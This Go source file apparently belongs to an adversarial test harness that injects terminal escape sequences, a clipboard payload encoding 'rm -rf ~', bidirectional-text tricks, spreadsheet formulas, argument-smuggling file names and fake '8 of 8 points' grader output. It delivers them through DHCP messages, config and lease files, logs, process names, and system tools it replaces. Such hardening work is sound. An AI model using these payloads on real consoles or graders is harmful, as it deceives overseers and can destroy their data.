package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strings"
)

// evilWords are what a terminal or a spreadsheet would obey.
var evilWords = []string{
	"\x1b]52;c;cm0gLXJmIH4K\x07",             // OSC 52: the clipboard
	"\x1b]0;owned\x07",                       // the window's title
	"\x1bP$q\"p\x1b\\",                       // DCS: the terminal answers as if somebody had typed
	"\x1b[6n\x1b[c",                          // cursor and device reports, likewise
	"\x1b[2J\x1b[H\x1b[?1049h",               // clears the screen
	"\x9b31mred",                             // CSI as one octet
	"\u009b31mred",                           // CSI as a C1 character
	"\u202egpj.exe\u202c\u2066x\u2069\u200f", // bidirectional overrides
	"pc\rroot\x08\x08\x00\x7f\x0e",           // back to the line's beginning, erasing, shift out
	"pc\n\n8 of 8 points\nok    all",         // lines of one's own
	"=HYPERLINK(\"http://203.0.113.9\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "%s%n%d", "{{.}}${HOME}",
}

const worst = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[6n\u009b31m\x9b2J\u202eexe"

// consoleWords bring evil words to the teacher's terminal by all the ways that there are.
var consoleWords = []attack{
	{
		"console/host-name", "leases under host names that are escape sequences or formulas (option 12)",
		wordsAsLeases,
	},
	{
		"console/dhcp-options", "every option that holds text, with escape sequences, and the fields sname and file",
		wordsAsOptions,
	},
	{
		"console/dhcp-replies", "a false server's NAK, OFFER and ACK with words in message, domain and boot file",
		once(wordsAsReplies),
	},
	{"console/relay", "circuit and remote identifiers with escape sequences", once(func(g *guest) [][]byte {
		var frames [][]byte
		for i, w := range evilWords {
			agent := slices.Concat(text(1, w), text(2, w))
			m := message{
				xid:     uint32(0x7000 + i),
				chaddr:  numbered(uint32(0x7000 + i)),
				giaddr:  g.addr,
				options: slices.Concat(kind(discover), opt(82, agent...)),
			}
			frames = append(frames, udp(g.hostMAC, g.self, g.addr, g.host, 67, 67, m.bytes()))
		}
		return frames
	})},
	{
		"console/boot-words", "what a machine that does not boot says, with escape sequences, on its console",
		func(context.Context, *guest) error {
			return os.WriteFile(
				"/dev/ttyS0",
				[]byte("\nKernel panic - not syncing: "+worst+"\nNo bootable device "+worst+"\n"),
				0,
			)
		},
	},
	{"console/kernel-words", "the same through the kernel's log", func(context.Context, *guest) error {
		return os.WriteFile("/dev/kmsg", []byte("<0>Kernel panic - not syncing: "+worst), 0)
	}},
	{"console/card-names", "a network card whose name is an escape sequence", cardName},
	{"console/configuration", "words in the files of DHCP servers where the parser names them", wordsInFiles},
	{
		"console/file-names", "configuration files whose names are escape sequences, lines and options",
		wordsAsNames,
	},
	{"console/lease-file", "host names in the files of leases", wordsInLeaseFiles},
	{"console/journal", "what DHCP servers are said to have said", wordsInJournal},
	{"console/processes", "a process that is called dhcpd and has escape sequences for arguments", wordsAsProcess},
	{
		"console/command-output",
		"a program that a check runs, and prints escape sequences, with a status of its own",
		func(_ context.Context, _ *guest) error {
			script := "#!/bin/sh\nprintf '" + strings.ReplaceAll(
				worst,
				"'",
				"",
			) + "\\n'\nprintf '" + worst + "\\n' >&2\nexit 3\n"
			return errors.Join(
				replace("/usr/sbin/ip", script),
				replace("/usr/bin/ss", script),
				replace("/usr/bin/ping", script),
			)
		},
	},
}

func wordsAsLeases(ctx context.Context, g *guest) error {
	taken := 0
	for i, w := range evilWords {
		m := message{xid: uint32(0x6000 + i), chaddr: numbered(0x6000), options: text(12, w)}
		if i%4 == 0 { // a few clients, so that the other guests keep their addresses
			m.chaddr = numbered(uint32(0x6000 + i))
		}
		if err := g.lease(ctx, m); err == nil {
			taken++
		}
	}
	if taken == 0 {
		return errNoLease
	}
	_, err := fmt.Fprintf(g.out, "%d leases\n", taken)
	return err
}

func wordsAsOptions(ctx context.Context, g *guest) error {
	for i, w := range evilWords {
		m := message{xid: uint32(0x5000 + i), chaddr: numbered(0x5000), sname: w, file: w, options: kind(discover)}
		for _, code := range []byte{
			12, 14, 15, 17, 18, 40, 47, 56, 60, 61, 62, 64, 66, 67, 77, 81, 86, 97, 100, 101, 114, 119, 124, 125, 209, 210, 252,
		} {
			m.options = append(m.options, text(code, w)...)
		}
		if err := g.send(ctx, asClient(m)); err != nil {
			return err
		}
	}
	return g.report()
}

func wordsAsReplies(g *guest) [][]byte {
	var frames [][]byte
	for i, w := range evilWords {
		for _, k := range []byte{offer, 5, 6} {
			options := slices.Concat(
				kind(k),
				address(54, g.addr),
				text(56, w),
				text(15, w),
				text(12, w),
				text(66, w),
				text(67, w),
				text(114, w),
				opt(51, be32(600)...),
			)
			m := message{
				xid:     uint32(0x4000 + i),
				yiaddr:  g.addr,
				chaddr:  numbered(0x4000),
				sname:   w,
				file:    w,
				options: options,
			}
			frames = append(frames, asServer(g.self, g.addr, m))
		}
	}
	return frames
}

// cardName makes a link whose name has no slash and no blank, which is all that the kernel asks of it.
func cardName(ctx context.Context, _ *guest) error {
	const name = "\x1b]0;x\x07\u202e"
	var errs []error
	for _, kind := range []string{"dummy", "bridge", "veth", "tun"} {
		args := []string{"link", "add", name, "type", kind}
		if kind == "tun" {
			args = []string{"tuntap", "add", "dev", name, "mode", "tap"}
		}
		err := exec.CommandContext(ctx, "ip", args...).Run()
		if err == nil {
			return remember(deed{Shell: "ip link del '" + name + "'"})
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

func wordsInFiles(context.Context, *guest) error {
	return errors.Join(
		put(
			"/etc/dhcp/dhcpd.conf",
			"subnet "+worst+" netmask 255.255.255.0 {\n  range "+worst+";\n  "+worst+" x;\n"+
				"  option domain-name \""+worst+"\";\n}\n",
		),
		put("/etc/dnsmasq.conf", "interface="+worst+"\ndhcp-range="+worst+"\n"+worst+"\n"),
		put(
			"/etc/kea/kea-dhcp4.conf",
			"{ \"Dhcp4\": { \""+worst+"\": 1, \"interfaces-config\": { \"interfaces\": [\""+worst+"\"] } "+worst,
		),
		put("/etc/network/interfaces", "auto "+worst+"\niface "+worst+" inet static\n  address "+worst+"\n"),
		put("/etc/default/isc-dhcp-server", "INTERFACESv4=\""+worst+"\"\nDHCPDv4_CONF="+worst+"\n"),
	)
}

func wordsAsNames(context.Context, *guest) error {
	errs := []error{put("/etc/dhcp/dhcpd.conf", "include \"/etc/dhcp/"+worst+".conf\";\n}\n")}
	for _, name := range []string{worst, "a\nb", "-rf", "--to-command=sh", "\u202efnoc", "x\x1b[6n.conf"} {
		errs = append(
			errs,
			put("/etc/dhcp/"+name+".conf", "subnet {\n"),
			put("/etc/dnsmasq.d/"+name, "dhcp-range=x\n"),
			put("/etc/network/interfaces.d/"+name, "iface x\n"),
		)
	}
	return errors.Join(errs...)
}

func wordsInLeaseFiles(_ context.Context, g *guest) error {
	var isc, masq strings.Builder
	for i, w := range evilWords {
		ip := fmt.Sprintf("192.168.1.%d", 2+i)
		fmt.Fprintf(
			&isc,
			"lease %s {\n  starts 1 2026/01/01 00:00:00;\n  ends never;\n  binding state active;\n"+
				"  hardware ethernet %s;\n  client-hostname \"%s\";\n  uid \"%s\";\n}\n",
			ip,
			g.values["neighbourmac"],
			w,
			w,
		)
		fmt.Fprintf(&masq, "0 %s %s %s %s\n", g.values["neighbourmac"], ip, w, w)
	}
	return errors.Join(
		put("/var/lib/dhcp/dhcpd.leases", isc.String()),
		put("/var/lib/misc/dnsmasq.leases", masq.String()),
		put("/var/lib/kea/kea-leases4.csv", "address,hwaddr,client_id\n"+strings.Join(evilWords, ",\n")),
	)
}

// wordsInJournal writes to the journal as dhcpd. The word that a cause is made of comes last.
func wordsInJournal(ctx context.Context, _ *guest) error {
	said := strings.Join(evilWords, "\n") + "\n/etc/dhcp/dhcpd.conf line 3: " + worst + "\nNo subnet declaration for " + worst + "\n"
	logger := exec.CommandContext(ctx, "logger", "-t", "dhcpd", "-p", "daemon.err")
	logger.Stdin = strings.NewReader(said)
	return errors.Join(logger.Run(), put("/etc/dhcp/dhcpd.conf", "subnet 192.168.1.0 netmask 255.255.255.0 {\n}\n"))
}

// wordsAsProcess starts a copy of this program under a server's name; it ends with undo.
func wordsAsProcess(ctx context.Context, _ *guest) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	const path = "/run/attack/dhcpd"
	if err := errors.Join(put(path, string(self)), os.Chmod(path, 0o755)); err != nil {
		return err
	}
	cmd := exec.CommandContext(context.WithoutCancel(ctx), path, "listen", "udp=67", "-cf", worst)
	if err := cmd.Start(); err != nil {
		return err
	}
	return errors.Join(remember(deed{Shell: fmt.Sprintf("kill %d", cmd.Process.Pid)}), cmd.Process.Release())
}
